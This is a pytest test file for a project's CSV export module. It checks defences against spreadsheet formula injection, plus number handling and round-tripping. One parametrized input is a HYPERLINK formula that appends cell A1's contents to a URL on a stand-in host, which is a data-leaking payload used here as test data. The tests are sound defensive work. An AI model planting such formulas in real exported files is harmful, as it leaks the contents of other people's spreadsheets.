"""Tables that people open in a spreadsheet: no text of theirs becomes a program, and none comes back changed."""

from __future__ import annotations

import ast
import csv
import io
from itertools import product
from pathlib import Path

import pytest

from lesionlens.io.tables import read_results, read_rows, row_writer

SOURCE = Path(__file__).resolve().parents[2] / "src" / "lesionlens"
# What OWASP names as the beginnings of formulas.
STARTS = "=+-@\t\r\n＝＋－＠"
ORDINARY = ["lesion", "", "'", "''quoted''", "a=b", " =1", "3-2", "-3.2", "+4", "-1e-05", "-7"]


def written(*cells: object) -> str:
    """Return the table that has one row with these cells below a head."""
    file = io.StringIO(newline="")
    add = row_writer(file)
    add(f"column {n}" for n, _ in enumerate(cells))
    add(cells)
    return file.getvalue()


@pytest.mark.parametrize("start", STARTS)
def test_no_text_begins_as_a_formula(start: str) -> None:
    """A reader's comment of a measurement must not send the table somewhere when somebody opens it."""
    text = f'{start}HYPERLINK("https://example.org/?"&A1;"more")'
    [_, row] = csv.reader(io.StringIO(written("case", text), newline=""))
    assert row == ["case", f"'{text}"]


def test_numbers_stay_numbers() -> None:
    """A centroid left of the middle is negative, and has to add up in a spreadsheet."""
    [_, row] = csv.reader(io.StringIO(written(-3.2, -7, 1e-300, "-3.2", None, True, float("-inf")), newline=""))
    assert row == ["-3.2", "-7", "1e-300", "-3.2", "", "true", "-inf"]


def test_every_text_comes_back(tmp_path: Path) -> None:
    """What was written is read as it was, apostrophes of the reader's own included."""
    texts = [*ORDINARY, *(f"{marks}{start}x" for marks, start in product(("", "'", "''"), STARTS)), *STARTS]
    table = tmp_path / "table.csv"
    table.write_text(written("x", *texts), encoding="utf-8", newline="")
    with table.open(newline="", encoding="utf-8") as file:
        [row] = read_results(file)
    assert list(row.values()) == ["x", *texts]
    assert list(read_rows(table)[0].values()) == ["x", *texts]


def test_texts_that_differ_are_written_differently() -> None:
    """Two classes must not become one because an apostrophe was added to one of them."""
    texts = [*ORDINARY, *(f"{marks}{start}x" for marks, start in product(("", "'", "''"), STARTS))]
    assert len({written(text) for text in texts}) == len(texts)


def test_every_table_is_written_here() -> None:
    """A table that is written past this module is a table without the apostrophes."""
    writers = {
        path.relative_to(SOURCE).as_posix()
        for path in SOURCE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "DictReader", "to_csv", "savetxt"}
    }
    assert writers == {"io/tables.py"}
